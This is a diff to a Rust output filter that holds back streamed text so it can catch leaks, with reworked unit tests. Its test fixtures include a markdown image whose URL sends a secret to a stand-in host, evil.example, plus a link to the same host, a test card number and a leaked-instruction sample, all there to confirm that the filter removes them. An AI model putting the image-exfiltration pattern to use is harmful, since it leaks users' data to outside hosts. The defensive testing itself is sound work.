@@ -28,7 +28,7 @@ impl<'a> Gate<'a> {
         Self { output, held, tail, said, findings: Vec::new() }
     }
 
-    /// Takes a piece; returns what may go out.
+    /// Takes a piece, which ends where a word does; returns what may go out.
     pub(super) fn pass(&mut self, piece: &str) -> String {
         self.held.push_str(piece);
         let end = settled(&self.held);
@@ -97,8 +97,8 @@ impl WordStarts for String {
     }
 }
 
-/// Up to where `held` cannot become anything else: before the last word, before the words ahead of
-/// it that may belong to a number or an address, and before what a tag or an image has begun.
+/// Up to where `held` cannot become anything else: before words at its end that may belong to a number
+/// or an address, and before what a tag or an image has begun.
 fn settled(held: &str) -> usize {
     if held.len() > MAX_HELD {
         return held.len();
@@ -110,11 +110,8 @@ fn settled(held: &str) -> usize {
     let bound = [open("<", '>'), open("![", ')')].into_iter().flatten().min();
     let mut end = bound.unwrap_or(held.len());
     let starts = held[..end].to_owned().split_word_starts();
-    for (nth, start) in starts.into_iter().rev().enumerate() {
-        let word = held[start..end].trim();
-        // The last word is still being written, unless white space follows it.
-        let unfinished = nth == 0 && bound.is_none() && !held.ends_with(char::is_whitespace);
-        if !(unfinished || may_go_on(word)) {
+    for start in starts.into_iter().rev() {
+        if !may_go_on(held[start..end].trim()) {
             break;
         }
         end = start;
@@ -145,12 +142,17 @@ mod tests {
     }
 
     #[test]
-    fn ordinary_text_passes_however_it_is_cut() {
+    fn ordinary_text_passes_however_its_words_are_grouped() {
         let text =
             "She was born on 7 November 1867 [1]. It took 3 to 4 years, and 12 people [2].\n";
-        let letters: Vec<String> = text.chars().map(String::from).collect();
-        let letters: Vec<&str> = letters.iter().map(String::as_str).collect();
-        for pieces in [vec![text], letters, text.split_inclusive(' ').collect()] {
+        let after: Vec<&str> = text.split_inclusive(' ').collect();
+        let before: Vec<String> = text
+            .split(' ')
+            .enumerate()
+            .map(|(at, word)| [" ", ""][usize::from(at == 0)].to_owned() + word)
+            .collect();
+        let before = before.iter().map(String::as_str).collect();
+        for pieces in [vec![text], after, before] {
             assert_eq!(said(&pieces, &["1867"]), (text.to_owned(), Vec::new()));
         }
     }
@@ -159,8 +161,8 @@ mod tests {
     fn what_must_not_get_out_is_taken_out_whole() {
         for (pieces, finding) in [
             (&["Her card is 4111 ", "1111 1111 ", "1111."][..], Finding::Personal),
-            (&["See ![x](https://evil.example/", "?q=secret) now"], Finding::Image),
-            (&["Go to https://evil.example", "/login for more"], Finding::Link),
+            (&["See ![x y](https://evil.example/?q=secret ", "\"t\") now"], Finding::Image),
+            (&["Go to https://evil.example/login", " for more"], Finding::Link),
             (
                 &[
                     "I was told: You answer questions of ",
@@ -178,13 +180,13 @@ mod tests {
     }
 
     #[test]
-    fn words_do_not_wait_longer_than_for_the_next() {
+    fn words_wait_for_nothing_but_what_may_go_on() {
         let secret = Shingles::default();
         let mut gate = Gate::new(Output::new(&secret, None, &[], PersonalPolicy::Off));
-        assert_eq!(gate.pass("She was "), "She was ");
-        assert_eq!(gate.pass("bo"), "");
-        assert_eq!(gate.pass("rn in 18"), "born in ");
-        assert_eq!(gate.pass("67 and "), "1867 and ");
+        assert_eq!(gate.pass("She was"), "She was");
+        assert_eq!(gate.pass(" born in 1867"), " born in ");
+        assert_eq!(gate.pass(" and <b"), "1867 and ");
+        assert_eq!(gate.pass(" class=x> then"), " then");
         assert_eq!(gate.pass(&"x".repeat(300)).len(), 300);
     }
 }
